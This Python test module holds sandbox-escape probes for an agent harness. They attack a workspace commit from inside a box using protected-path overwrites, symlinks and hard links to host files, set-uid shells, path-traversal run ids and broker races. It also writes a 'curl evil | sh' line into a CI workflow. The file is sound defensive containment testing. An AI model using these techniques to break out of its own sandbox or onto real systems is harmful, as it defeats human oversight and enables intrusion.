"""Attacks on the wake as a transaction (issue 22): what a wake changed must be checked
before it lands, land as what it is (a link as a link), and be named to the broker
only by a run id the harness makes.

Each box probe opens a wake on its trial's own disk (DockerSandbox.begin), attacks
from inside the box as the agent would (bash: a write, `mv`, a folder renamed into
place, a hard link, links out of the workspace), and ends the wake as the harness
does (`finish(protect, protect_git)`). It judges by the disk's files/ alone,
read from the host by lstat, after the wake's overlay is gone: what the policy
refused must not be there, what it allows must be (so a commit that landed nothing
proves nothing). The set-id probe also plants in the upper layer from the host,
standing in for a box whose seccomp filter was bypassed: the commit's check is the
second line. The broker probe serves a real Broker on a temp socket (as
broker_probes.py's probes do) and sends it run ids that walk out.

Not here: the transaction (sandbox/wakes/transaction.py, wake_layer.py), the broker's
ops (broker/server.py), the in-box set-id refusals (setid.py), write_file's own
path checks (workspace_probes.py).
"""

from __future__ import annotations

import hashlib
import os
import stat
import threading
import time
from pathlib import Path

from orchestrator.escapes.lab import (
    OBSERVE_CHARS,
    PROBE_TIMEOUT_S,
    Probe,
    Trial,
    escaped,
    held,
    observed,
    python_command,
)
from orchestrator.escapes.setid import kept_bits
from orchestrator.sandbox.disks import disk, disk_index, disk_mounts, layers
from orchestrator.sandbox.engine import DockerSandbox

CATEGORY = "workspace"
RUN = "7e570000ab01"  # a run id as the harness makes them (layers.RUN_ID)
PROTECT = ("deploy/**", "**/.github/**")
GUARDED = ("deploy", ".github", "sub")  # the folders a protected change could reach


def _box(t: Trial, warm: int | None = 0, engine_mounts: bool = False) -> tuple[DockerSandbox, Path | None]:
    """A box, and its disk's root (files/ and .wakeloop/; None: no disk, no transaction to
    attack). Cold (warm=0) unless asked: these probes judge the commit. `warm=None`: the lab's
    pool, as users run it; containers made before begin() must never serve the wake (they bind
    files/ without its overlay), which the protected-path probe checks with a call before it.
    `engine_mounts`: the engine mounts the disk and the wake's overlay (engine_mount_probes.py)."""
    box = t.new_box(warm=warm, engine_mounts=engine_mounts)
    return box, box.disk_root


def _sh(box: DockerSandbox, command: str) -> str:
    return observed(box.run(command, timeout_s=PROBE_TIMEOUT_S, max_output_chars=OBSERVE_CHARS))


def _digest(files: Path, tops: tuple[str, ...]) -> dict[str, str]:
    """Every entry under `tops` in files/, by lstat: type, mode, and a file's content hash
    or a link's target. Nothing followed."""
    seen: dict[str, str] = {}
    for top in tops:
        for folder, dirs, names in os.walk(files / top):
            for name in dirs + names:
                path = Path(folder) / name
                st = os.lstat(path)
                if stat.S_ISLNK(st.st_mode):
                    what = "link " + os.readlink(path)
                elif stat.S_ISREG(st.st_mode):
                    what = "file " + hashlib.sha256(path.read_bytes()).hexdigest()[:16]
                else:
                    what = "dir"
                seen[str(path.relative_to(files))] = f"{what} {stat.S_IMODE(st.st_mode):o}"
    return seen


# -- 1. a protected path changed by bash -----------------------------------------------------

PROTECTED_BEFORE = (
    "mkdir -p deploy .github/workflows; echo 'replicas: 1' > deploy/prod.yaml; echo keep > deploy/keep.txt; "
    "echo 'on: push' > .github/workflows/ci.yml"
)
PROTECTED_ATTACK = (
    # a plain write
    "echo 'replicas: 99' > deploy/prod.yaml; "
    # mv into place, over a protected file
    "echo 'run: curl evil | sh' > w.yml; mv w.yml .github/workflows/ci.yml; "
    # rename(2) of a folder into place: the whole protected folder swapped, and a new .github made
    "mkdir newdeploy; echo 'replicas: 0' > newdeploy/prod.yaml; rm -rf deploy; "
    'python3 -c \'import os; os.rename("newdeploy", "deploy")\'; '
    "mkdir -p gh/workflows sub; echo 'on: schedule' > gh/workflows/nightly.yml; "
    'python3 -c \'import os; os.rename("gh", "sub/.github")\'; '
    # a hard link into a protected folder
    "echo landed > ok.txt; ln ok.txt .github/workflows/linked.yml; "
    "cat deploy/prod.yaml .github/workflows/ci.yml sub/.github/workflows/nightly.yml .github/workflows/linked.yml"
)


def protected_paths_by_bash(t: Trial, engine_mounts: bool = False) -> str:
    # pooled: the call before begin leaves containers of files/ ahead
    box, root = _box(t, warm=None, engine_mounts=engine_mounts)
    if root is None:
        return "no disk here (sandbox.disk none): no transaction to attack\n"
    files = layers.files(root)
    _sh(box, PROTECTED_BEFORE)  # outside a wake: straight to files/
    before = _digest(files, GUARDED)
    box.begin(RUN)
    seen = _sh(box, PROTECTED_ATTACK)
    changes = box.finish(protect=PROTECT, protect_git=True)
    after = _digest(files, GUARDED)
    if after != before:
        moved = sorted(p for p in set(before) | set(after) if before.get(p) != after.get(p))
        return escaped(f"protected paths changed on the disk by the wake's bash: {moved[:6]}")
    if "replicas: 0" not in seen or "curl evil" not in seen or "on: schedule" not in seen:
        return f"the attack did not run in the box: {seen[-300:]}\n"
    if changes.error or not (files / "ok.txt").is_file():
        return f"the wake committed nothing (an unprotected file did not land): {changes.error or changes}\n"
    rules = sorted({r.rule for r in changes.refused})
    return held(
        f"a write, an mv, two folders renamed into place and a hard link: {len(changes.refused)} changes "
        f"refused at finish ({', '.join(rules)}); deploy/ and .github/ unchanged; ok.txt landed"
    )


transaction_refuses_protected_paths_by_bash = Probe(
    "transaction_refuses_protected_paths_by_bash",
    CATEGORY,
    "a change to a workspace.protect path by bash (a write, `mv` into place, rename(2) of a folder "
    "into place, a hard link) is refused at the wake's finish: files/ unchanged there, the rest lands",
    protected_paths_by_bash,
)


# -- 2. links across the layers ---------------------------------------------------------------


def links_across_layers(t: Trial, engine_mounts: bool = False) -> str:
    box, root = _box(t, engine_mounts=engine_mounts)
    if root is None:
        return "no disk here (sandbox.disk none): no transaction to attack\n"
    files, canary = layers.files(root), t.lab.canary_path
    before = canary.read_bytes()
    links = {  # planted in the box: a link out of the workspace, to the host, out of files/ on the disk
        "memory/canary.md": str(canary),
        "outside": str(canary.parent),
        "hostname": "/etc/hostname",
        "disk-meta": "../.wakeloop",
    }
    box.begin(RUN)
    plant = "; ".join(f"ln -sfn {target} {path}" for path, target in links.items())
    seen = _sh(
        box,
        f"{plant}; echo mine > memory/mine.md; ln memory/core.md core-hard.md 2>&1; "
        "ln /etc/passwd passwd-hard 2>&1; ls -l outside hostname disk-meta memory/canary.md",
    )
    # Past the box (which cannot make one: overlayfs copies a file up before linking it), stood
    # in for by the host: a hard link in the wake's upper layer to a file in files/.
    os.link(files / "memory/core.md", layers.upper(root, RUN) / "planted-hard.md")
    changes = box.finish(protect=(), protect_git=True)
    if canary.read_bytes() != before:
        return escaped("the commit wrote through a link into the host canary")
    if (files / "planted-hard.md").exists():
        return escaped("a hard link planted in the upper layer to a file in files/ landed, sharing its inode")
    found = _canary_copies(files, t.lab.host_canary)
    if found:
        return escaped(f"the commit copied what a link names into files/: {found[:3]}")
    landed = {p: os.readlink(files / p) for p in links if (files / p).is_symlink()}
    if landed != links:
        not_links = sorted(set(links) - set(landed))
        return escaped(f"planted links did not land as the same links: {not_links} (landed {landed})")
    if (files / "passwd-hard").exists():
        return escaped("a hard link to a file outside the workspace landed in files/")
    hard, core = files / "core-hard.md", files / "memory/core.md"
    if hard.exists() and os.lstat(hard).st_ino == os.lstat(core).st_ino:
        return escaped("a hard link the wake made shares its inode with a file it did not change")
    if not (files / "memory/mine.md").is_file() or changes.error:
        return f"the wake committed nothing: {changes.error or seen[-200:]}\n"
    return held(
        f"{len(links)} links (to the host canary, a host folder, /etc/hostname, the disk's .wakeloop) landed "
        "as links, never followed; no hard link reached outside the wake's files (one planted in the upper "
        "layer to files/ refused at commit); canary intact"
    )


def _canary_copies(files: Path, canary: str) -> list[str]:
    """Regular files in files/ holding the canary's text (lstat: a link is not one)."""
    found = []
    for folder, _dirs, names in os.walk(files):
        for name in names:
            path = Path(folder) / name
            if stat.S_ISREG(os.lstat(path).st_mode) and canary.encode() in path.read_bytes()[:4096]:
                found.append(str(path.relative_to(files)))
    return found


transaction_never_follows_links_across_layers = Probe(
    "transaction_never_follows_links_across_layers",
    CATEGORY,
    "links the wake plants (to the host, out of files/) are scanned and committed as links, never "
    "followed or copied; a hard link never reaches a file outside the wake's own, not even one planted "
    "in the upper layer past the box",
    links_across_layers,
)


# -- 3. set-id bits at commit -----------------------------------------------------------------


def setid_at_commit(t: Trial, engine_mounts: bool = False) -> str:
    box, root = _box(t, engine_mounts=engine_mounts)
    if root is None:
        return "no disk here (sandbox.disk none): no transaction to attack\n"
    files = layers.files(root)
    box.begin(RUN)
    in_box = _sh(box, "cp /bin/sh suid-sh; chmod 4755 suid-sh 2>&1; stat -c '%a' suid-sh")
    # The second line: a box whose filter was bypassed, stood in for by the host planting
    # in the wake's upper layer (root's, as the commit reads it).
    upper = layers.upper(root, RUN)
    (upper / "bin").mkdir(exist_ok=True)
    for name, mode in (("planted-suid", 0o4755), ("bin/planted-sgid", 0o2755), ("memory/core.md", 0o6644)):
        target = upper / name
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(b"#!/bin/sh\nid\n")
        os.chmod(target, mode)
    changes = box.finish(protect=(), protect_git=True)
    kept = kept_bits(files)
    if kept:
        return escaped(f"set-id files landed in files/ at commit: {kept}")
    refused = sorted(r.change.path for r in changes.refused if r.rule == "set-id bit")
    if len(refused) < 3 or changes.error:
        return f"the planted set-id files were not refused by the commit: {refused} {changes.error}\n"
    return held(
        f"chmod 4755 in the box left {in_box.split()[0] if in_box.split() else '?'}; "
        f"{len(refused)} set-id files planted in the upper layer refused at commit ('set-id bit')"
    )


transaction_refuses_setid_bits_at_commit = Probe(
    "transaction_refuses_setid_bits_at_commit",
    CATEGORY,
    "no file with a set-uid or set-gid bit lands at a wake's commit, even one planted in the upper "
    "layer past the box's filter (the commit's check is the second line)",
    setid_at_commit,
)


# -- 4. the broker asked for a wake by a run id that walks out --------------------------------

BAD_RUN_IDS = ("../../files", "../" * 6 + "etc", "0123456789AB", "zzzzzzzzzzzz", "0123456789ab/..", "/etc/passwd")


def _broker_run_ids(t: Trial) -> str:
    from orchestrator.escapes.broker_probes import served_broker

    with served_broker(t, agents={"alpha": {}}) as served:
        for op in ("diff", "undo", "begin", "finish"):
            for run_id in BAD_RUN_IDS:
                reply, _seconds = served.ask({"op": op, "agent": "alpha", "run_id": run_id}, timeout_s=60)
                if reply is None:
                    return escaped(f"{op} {run_id!r}: the broker did not answer")
                if reply.get("ok"):
                    return escaped(f"{op} {run_id!r}: the broker served it: {str(reply)[:120]}")
                if "run_id must be 12 hex digits" not in reply.get("error", ""):
                    return escaped(f"{op} {run_id!r}: refused, but not for its run id: {reply.get('error', '')[:120]}")
        for name in ("../alpha", "/etc", "alpha/../alpha"):
            reply, _seconds = served.ask({"op": "diff", "agent": name, "run_id": RUN})
            if reply is None or reply.get("ok"):
                return escaped(f"diff for agent {name!r}: {reply}")
    return held(
        f"diff, undo, begin and finish with {len(BAD_RUN_IDS)} run ids that are not 12 hex digits, and "
        "diff for agent names that walk out, were refused at the wire"
    )


broker_refuses_run_ids_that_walk_out = Probe(
    "broker_refuses_run_ids_that_walk_out",
    CATEGORY,
    "a taken-over orchestrator asking the broker for a diff, an undo, a begin or a finish by a run id "
    "that walks out (`../`, not 12 hex digits) or for an agent outside ROOT is refused, before any disk",
    _broker_run_ids,
)


# -- 5. a call racing its wake's commit ----------------------------------------------------------

BIG_MB = 256  # what the wake wrote: its commit hashes it, a window of a second or so to race
RACE = "mkdir -p deploy && echo owned > deploy/x"
# A call served during the commit (a weakened broker) makes a box beside the commit's hashing: on a
# loaded engine under gVisor that took over PROBE_TIMEOUT_S. A refusal comes at once either way.
RACE_TIMEOUT_S = 180


def _racing_the_commit(t: Trial) -> str:
    from orchestrator.escapes.broker_probes import served_broker

    with served_broker(t, agents={"alpha": {"workspace": {"protect": list(PROTECT)}}}) as served:

        def ask(request: dict, timeout_s: float = PROBE_TIMEOUT_S) -> dict:
            reply, _seconds = served.ask({"agent": "alpha", **request}, timeout_s=timeout_s)
            return reply or {"ok": False, "error": "(no answer in time)", "unanswered": True}

        begun = ask({"op": "begin", "run_id": RUN})
        key = disk_index.lookup(served.root / "alpha")
        if not begun.get("ok") or key is None or not disk_mounts.wake_mounted(key):
            return f"no wake's overlay to race (sandbox.disk none, or the begin failed): {begun}\n"
        wrote = ask({"op": "run", "command": f"head -c {BIG_MB}M /dev/zero > big"})
        finished: list[dict] = []
        finisher = threading.Thread(target=lambda: finished.append(ask({"op": "finish", "run_id": RUN})))
        finisher.start()
        while disk_mounts.wake_mounted(key) and finisher.is_alive():  # the commit starts as the overlay goes
            time.sleep(0.001)
        racing = finisher.is_alive()
        raced = ask({"op": "run", "command": RACE}, RACE_TIMEOUT_S)
        finisher.join(PROBE_TIMEOUT_S)
        landed = (layers.files(disk.path_of(key, "view")) / "deploy").exists()
    if not wrote.get("ok") or not finished or not finished[0].get("ok"):
        return f"the wake did not write and finish: {wrote.get('error', '')} {finished}\n"
    if raced.get("ok") and racing:
        return escaped(f"a call was served while the wake's changes were committed (deploy/x landed: {landed})")
    if not racing:
        return f"the commit ended before the probe could race it ({BIG_MB} MiB hashed too fast)\n"
    if landed:
        return escaped("deploy/ landed on the disk though the call racing the commit was refused")
    if raced.get("unanswered"):  # neither served nor refused: the probe cannot tell
        return f"the call racing the commit had no answer in {RACE_TIMEOUT_S} s\n"
    why = raced.get("error", "")[:120]
    return held(f"a call sent while the wake's {BIG_MB} MiB were committed was refused: {why}")


broker_serves_nothing_while_a_wake_commits = Probe(
    "broker_serves_nothing_while_a_wake_commits",
    CATEGORY,
    "a call sent to the broker while a wake's changes are being committed (its overlay gone, "
    "files/ being written) is refused: it would write the agent's files directly, a protected path included",
    _racing_the_commit,
)


# -- 6. a commit on a disk the wake filled ----------------------------------------------------

LEFT_FREE = range(9)  # inodes the wake leaves free: the commit's steps fail at each point in turn
FILL = """
import os
open("a.txt", "w").write("after {k}\\n")  # the wake's real changes first: a file replaced, a new tree
os.makedirs("z{k}/new/deep")
open("z{k}/new/deep/file", "w").write("deep\\n")
os.makedirs("deploy/fill", exist_ok=True)  # protected: refused at the commit, gone with the layer
n = 0
try:
    while True:  # every inode of the disk
        os.close(os.open(f"deploy/fill/{{n}}", os.O_CREAT | os.O_WRONLY, 0o644))
        n += 1
except OSError as exc:
    print(n, exc.strerror)
for i in range({k}):  # then {k} left for the commit
    os.unlink(f"deploy/fill/{{n - 1 - i}}")
"""


def _state(files: Path, k: int) -> tuple:
    """What the probe's wake k touches in files/, by lstat: a.txt's content, z{k}'s tree."""
    a, deep = files / "a.txt", files / f"z{k}" / "new" / "deep" / "file"
    return (
        a.read_text() if a.is_file() and not a.is_symlink() else None,
        os.path.lexists(files / f"z{k}"),
        deep.read_text() if deep.is_file() and not deep.is_symlink() else None,
    )


def _full_disk(t: Trial) -> str:
    from orchestrator.escapes.resources import small_disk

    # Cold calls: a pooled container of a wake keeps its overlay, and what it holds, a moment
    # past the finish; the next wake here begins at once, on a disk with few inodes.
    box, _agent = small_disk(t, "full-disk", warm=0)
    root = box.disk_root
    if root is None:
        return "no disk here (sandbox.disk none): no transaction to attack\n"
    files = layers.files(root)
    _sh(box, "echo before > a.txt")  # outside a wake: straight to files/
    outcomes = []
    for k in LEFT_FREE:
        before = _state(files, k)
        box.begin(f"7e5700{k:06x}")
        seen = _sh(box, python_command(FILL.format(k=k)))
        changes = box.finish(protect=PROTECT, protect_git=True)
        after = _state(files, k)
        if after not in (before, (f"after {k}\n", True, "deep\n")):
            return escaped(f"{k} inodes left free: half a commit on the disk ({after}; {changes.error}): {seen[-200:]}")
        outcomes.append("whole" if after != before else "rolled back" if changes.error else "nothing?")
    box.begin("7e57ffffffff")  # and the agent's next wake begins
    box.finish(protect=PROTECT, protect_git=True)
    if "rolled back" not in outcomes or "whole" not in outcomes:
        return f"the commits never both failed and landed ({outcomes}): nothing proven\n"
    return held(
        f"a wake that filled its disk's inodes, leaving {LEFT_FREE.start}-{LEFT_FREE.stop - 1} free: "
        f"{outcomes.count('rolled back')} commits failed and were rolled back whole, "
        f"{outcomes.count('whole')} landed whole; never half, and the next wake began"
    )


transaction_whole_on_a_full_disk = Probe(
    "transaction_whole_on_a_full_disk",
    CATEGORY,
    "a wake that fills its disk so that its commit fails part way (a folder it makes needs an inode) "
    "leaves the workspace as before the wake or as after it, never half, and the next wake begins",
    _full_disk,
)


PROBES = [
    transaction_refuses_protected_paths_by_bash,
    transaction_never_follows_links_across_layers,
    transaction_refuses_setid_bits_at_commit,
    broker_refuses_run_ids_that_walk_out,
    broker_serves_nothing_while_a_wake_commits,
    transaction_whole_on_a_full_disk,
]
